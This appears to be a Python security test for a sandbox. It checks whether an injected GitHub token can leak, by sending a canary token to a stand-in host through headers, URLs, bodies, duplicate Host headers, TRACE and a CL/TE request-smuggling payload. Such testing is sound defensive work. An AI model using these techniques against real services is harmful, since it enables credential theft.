"""Attempts to get at a credential that is put in outside ([secrets]): carry it elsewhere, or have it echoed.

Outside is a real HTTPS server that answers to two names and echoes what it hears. Whether an attempt got through is told by what that
server heard where the credential does not belong, and by what the program inside could print of it. The control is the same program with
the credential itself in its variable, as one gives it to a program without a box's secrets.
"""

from __future__ import annotations

import importlib.util
import os
import subprocess
import sys
from pathlib import Path

HOST, OTHER = "api.test-name", "other.test-name"
SECRET = "ghp_canary/4711+never=inside"

CALLS = f"""
import base64, os, ssl, socket, urllib.parse, urllib.request
token = os.environ["GITHUB_TOKEN"]
context = ssl._create_unverified_context()

def ask(host, path="/x", body=None, **headers):
    named = {{name.replace("_", "-"): value for name, value in headers.items()}}
    asked = urllib.request.Request(f"https://{{host}}{{path}}", body, named)
    try:
        with urllib.request.urlopen(asked, context=context, timeout=10) as answer:
            print(answer.status, answer.headers, answer.read().decode())
    except OSError as error:
        print(error, getattr(error, "read", lambda: b"")())

def say(host, data, name=None):
    "Bytes of one's own within TLS."
    with socket.create_connection((host, 443), 10) as plain, context.wrap_socket(plain, server_hostname=name or host) as sock:
        sock.settimeout(3)
        sock.sendall(data.encode())
        try:
            while part := sock.recv(65536):
                print(part)
        except OSError:
            pass

basic = "Basic " + base64.b64encode(("git:" + token).encode()).decode()
HOST, OTHER = "{HOST}", "{OTHER}"
"""
CARRIED = """
ask(OTHER, Authorization="Bearer " + token)
ask(OTHER, Authorization=basic)
ask(HOST, "/" + token + "?q=" + urllib.parse.quote(token, safe=""))
ask(HOST, body=token.encode())
ask(HOST, body=basic.encode(), Content_Type="application/json")
for name in ("User_Agent", "Cookie", "X_Note", "Referer", "X_Amz_Meta_Note", "If_None_Match"):
    ask(HOST, **{name: token})
both = "Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0"
for head in (
    f"GET /x HTTP/1.1\\r\\nHost: {OTHER}",
    f"GET https://{OTHER}/x HTTP/1.1\\r\\nHost: {HOST}",
    f"TRACE /x HTTP/1.1\\r\\nHost: {HOST}",
    f"GET /x HTTP/1.1\\r\\nHost: {HOST}\\r\\nHost: {OTHER}",
    f"POST /x HTTP/1.1\\r\\nHost: {HOST}\\r\\n{both}\\r\\n\\r\\nGET /y HTTP/1.1\\r\\nHost: {OTHER}",
):
    try:
        say(HOST, f"{head}\\r\\nAuthorization: Bearer {token}\\r\\n\\r\\n")
        say(HOST, f"{head}\\r\\nAuthorization: Bearer {token}\\r\\n\\r\\n", OTHER)
    except OSError as error:
        print(error)
"""
ECHOED = """
ask(HOST, Authorization="Bearer " + token)
ask(HOST, Authorization=basic)
ask(HOST, Authorization="Bearer " + token, Range="bytes=0-40")
ask(HOST, Authorization="Bearer " + token, Accept_Encoding="gzip")
ask(HOST, X_Api_Key=token)
"""


def _load(path):
    name = f"hostile_{path.stem}"
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(name, path)
        assert spec is not None and spec.loader is not None
        sys.modules[name] = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(sys.modules[name])
    return sys.modules[name]


def _astray(heard):
    """What the server was told of the credential where it does not belong."""
    own = ("authorization:", "x-api-key:")
    for one in heard:
        lines = [line for line in one["all"].splitlines() if one["host"] != HOST or not line.lower().startswith(own)]
        yield "\n".join([one["path"], one["body"], *lines])


def played(program, guarded):
    """A scenario's function."""
    outside, searching = (_load(Path(__file__).parents[1] / f"journeys/{name}.py") for name in ("https_outside", "searching"))

    def make(canary):
        folder = canary.folder / "credentials"
        folder.mkdir(mode=0o700)
        with outside.https(folder / "outside", SECRET) as server:
            text = f'[doors.http]\nallow = ["{OTHER}", "{HOST}"]\nhosts = {{ "{HOST}" = "{server.place}", "{OTHER}" = "{server.place}" }}\n'
            if guarded:
                text += f'[secrets.github]\nenv = "GITHUB_TOKEN"\nhosts = ["{HOST}"]\nca = "{server.ca}"\n'
                text += 'headers = ["Authorization", "X-Api-Key"]\n'
            (folder / "box.toml").write_text(text)
            given = [] if guarded else ["env", f"GITHUB_TOKEN={SECRET}"]
            environment = {**os.environ, "HOME": str(folder), "XDG_STATE_HOME": str(folder / "state"), "GITHUB_TOKEN": SECRET}
            command = [sys.executable, "-m", "gearcase.cli", "exec", "-q", "-f", folder / "box.toml", "--", *given]
            command += ["/usr/bin/python3", "-c", CALLS + program]
            try:
                done = subprocess.run(command, env=environment, cwd=folder, capture_output=True, timeout=100)
            finally:
                subprocess.run(["rm", "-rf", folder], check=True)
        told = done.stdout + "\n".join(_astray(server.heard)).encode()
        got = any(form in told for form in searching.forms(SECRET))
        arrived = sum(one["authorization"] == f"Bearer {SECRET}" for one in server.heard)
        if done.returncode or not server.heard:
            return f"GOT nowhere: exit {done.returncode}, {len(server.heard)} calls heard {done.stderr.decode()[-400:]}"
        return f"{'GOT ' if got else ''}{len(server.heard)} calls heard, {arrived} with the credential; {done.stdout.decode()[-300:]}"

    return make


def _of(name, program):
    scenario = _load(Path(__file__).with_name("scenarios.py")).Scenario
    return scenario(35, name, "the credential itself inside", played(program, True), played(program, False))


CREDENTIALS = (
    _of("carry a credential to another host, in an address, a header, a body", CARRIED),
    _of("have a credential echoed: raw, base64, URL-encoded, in parts", ECHOED),
)
